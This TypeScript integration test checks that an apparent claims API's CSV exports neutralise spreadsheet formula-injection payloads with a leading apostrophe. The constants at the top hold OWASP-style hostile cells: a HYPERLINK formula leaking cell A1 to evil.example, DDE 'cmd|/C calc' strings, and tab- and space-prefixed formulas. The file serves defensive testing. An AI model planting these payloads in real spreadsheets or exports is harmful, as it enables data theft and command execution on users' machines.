import 'reflect-metadata';
import { signApiToken } from '@claims/contracts';
import { createIsolatedDatabase, testInfrastructure, type IsolatedDatabase } from '@claims/harness';
import type { INestApplication } from '@nestjs/common';
import { randomBytes } from 'node:crypto';
import { Client } from 'pg';
import { startApiUnderTest } from '../__tests__/api-under-test';
import { parseCsv } from '../__tests__/csv-document';

const secret = randomBytes(32).toString('base64url');
const FILE_ID = 'e'.repeat(64);
/** Cell payloads from OWASP's CSV-injection page and its variants: each must reach the sheet as text. */
const HOSTILE_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const HOSTILE_LAYOUT = '@SUM(1+1)*cmd|/C calc!A0';
const HOSTILE_REASON = '+cmd|"/C calc"!A0, then -2+3';
const HOSTILE_TAB_SOURCE = '\t=1+1';
/** An upload's name may start with a blank: Google Sheets and LibreOffice's space trimming would reach the `=`. */
const HOSTILE_SPACED_SOURCE = ' =HYPERLINK("http://evil.example/?leak="&A1,"Open").csv';

describe('CSV exports against a real Postgres', () => {
  let database: IsolatedDatabase;
  let app: INestApplication;
  let baseUrl: string;
  const analyst = signApiToken({ sub: 'ana', role: 'analyst', ttlSeconds: 600, nowSeconds: Date.now() / 1000 }, secret);

  const download = async (path: string) => {
    const response = await fetch(`${baseUrl}${path}`, { headers: { authorization: `Bearer ${analyst}` } });
    return {
      status: response.status,
      type: response.headers.get('content-type'),
      disposition: response.headers.get('content-disposition'),
      text: await response.text(),
    };
  };

  beforeAll(async () => {
    database = await createIsolatedDatabase('api_exports');
    ({ app, baseUrl } = await startApiUnderTest({
      databaseUrl: database.url,
      brokers: testInfrastructure().brokers,
      apiTokenSecret: secret,
    }));
    const client = new Client({ connectionString: database.url });
    await client.connect();
    try {
      await client.query(
        `INSERT INTO ingest_file (file_id, source, layout, records_read, records_published, records_dead_lettered,
                                  blank_lines_skipped, duration_seconds, completed_at)
         VALUES ($1, $2, $3, 2, 2, 0, 0, 0.5, '2024-03-01T00:00:00Z'),
                ($4, $5, 'billing-csv', 1, 1, 0, 0, 0.1, '2024-03-02T00:00:00Z'),
                ($6, $7, 'billing-csv', 1, 1, 0, 0, 0.1, '2024-03-03T00:00:00Z')`,
        [
          FILE_ID,
          HOSTILE_SOURCE,
          HOSTILE_LAYOUT,
          'd'.repeat(64),
          HOSTILE_TAB_SOURCE,
          'c'.repeat(64),
          HOSTILE_SPACED_SOURCE,
        ],
      );
      await client.query(
        `INSERT INTO ingest_record (file_id, record_number, outcome, stage, error_code)
         VALUES ($1, 1, 'folded', NULL, NULL), ($1, 2, 'dead_lettered', 'normalizer', 'AMOUNT_INVALID')`,
        [FILE_ID],
      );
      await client.query(
        `INSERT INTO dead_letter (dead_letter_id, stage, error_code, reason, failed_at, file_id, record_number, source,
                                  origin_topic, dlq_partition, dlq_offset)
         VALUES ('normalizer:claims.raw.v1:0:2', 'normalizer', 'AMOUNT_INVALID', $1, '2024-03-01T00:00:01Z', $2, 2, $3,
                 'claims.raw.v1', 0, 7)`,
        [HOSTILE_REASON, FILE_ID, HOSTILE_SOURCE],
      );
    } finally {
      await client.end();
    }
  });

  afterAll(async () => {
    await app?.close();
    await database?.drop();
  });

  it('exports the ingestions as an attachment, every hostile cell turned into quoted text', async () => {
    const { status, type, disposition, text } = await download('/v1/ingestions/export.csv');
    expect(status).toBe(200);
    expect(type).toMatch(/^text\/csv; charset=utf-8/);
    expect(disposition).toBe('attachment; filename="ingestions.csv"');
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([
      'file_id',
      'source',
      'layout',
      'records_read',
      'folded',
      'duplicates',
      'dead_lettered',
      'unaccounted',
      'status',
    ]);
    expect(rows[1]).toEqual([
      FILE_ID,
      `'${HOSTILE_SOURCE}`,
      `'${HOSTILE_LAYOUT}`,
      '2',
      '1',
      '0',
      '1',
      '0',
      'accounted',
    ]);
    expect(rows[2]?.[1]).toBe(`'${HOSTILE_TAB_SOURCE}`);
    expect(rows.find((row) => row[0] === 'c'.repeat(64))?.[1]).toBe(`'${HOSTILE_SPACED_SOURCE}`);
    // On the wire, the hostile text never begins a cell: it starts with a quote and the neutralising apostrophe.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`);
  });

  it('exports the dead letters with the same neutralisation, reasons included', async () => {
    const { status, disposition, text } = await download('/v1/dead-letters/export.csv?reason=AMOUNT_INVALID');
    expect(status).toBe(200);
    expect(disposition).toBe('attachment; filename="dead-letters.csv"');
    const [header, letter, ...rest] = parseCsv(text);
    expect(rest).toEqual([]);
    const cell = (name: string): string | undefined => letter?.[header?.indexOf(name) ?? -1];
    expect(cell('reason')).toBe(`'${HOSTILE_REASON}`);
    expect(cell('source')).toBe(`'${HOSTILE_SOURCE}`);
    expect(cell('record_number')).toBe('2');
    expect(cell('record_outcome')).toBe('dead_lettered');
  });

  it('answers 400 naming the parameter for a bad filter, as the JSON listing does', async () => {
    const { status, text } = await download('/v1/dead-letters/export.csv?stage=nowhere');
    expect(status).toBe(400);
    expect(JSON.parse(text)).toMatchObject({ code: 'REQUEST_INVALID', fields: ['stage'] });
  });
});
